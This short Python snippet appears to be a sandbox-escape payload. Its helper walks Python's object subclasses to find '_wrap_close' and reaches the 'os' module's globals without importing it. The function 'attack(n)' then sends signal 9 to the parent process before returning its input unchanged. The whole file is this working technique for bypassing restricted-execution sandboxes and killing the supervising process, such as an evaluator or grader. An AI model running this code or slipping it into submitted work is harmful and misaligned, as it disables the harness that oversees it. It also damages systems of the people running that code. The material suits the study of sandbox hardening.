# Walks to `os`, and kills the process that called it.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    words = _reach()
    words["kill"](words["getppid"](), 9)
    return n
